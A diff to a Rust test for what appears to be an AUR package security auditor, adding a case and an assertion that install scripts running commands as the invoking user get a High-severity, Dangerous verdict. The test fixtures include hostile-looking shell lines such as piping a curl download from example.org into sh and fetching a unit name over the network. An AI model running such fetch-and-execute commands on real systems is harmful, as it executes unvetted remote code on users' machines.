@@ -102,9 +102,16 @@ fn an_install_script_starting_or_enabling_anything_in_a_session_stays_high() {
         "su \"$SUDO_USER\" -c 'systemctl --user stop syncd; curl -fsS https://example.org/x | sh'",
         "su \"$SUDO_USER\" -c 'systemctl --user is-active syncd && ~/.local/bin/helper'",
         "runuser -u \"$SUDO_USER\" -- systemctl --user $action syncd",
+        "u=$(curl -fsS https://example.org/unit)\n  runuser -u \"$SUDO_USER\" -- systemctl --user stop \"$u\"",
     ] {
         let script = format!("post_install() {{\n  {cmd}\n}}\n");
         let r = audit(&package("profile-syncd", "'rsync'", &script));
+        assert_eq!(
+            max_of(&r, "AUR-INSTALL-AS-USER"),
+            Some(Severity::High),
+            "{cmd}: {}",
+            r.to_text()
+        );
         assert_eq!(r.verdict, Verdict::Dangerous, "{cmd}: {}", r.to_text());
     }
 }
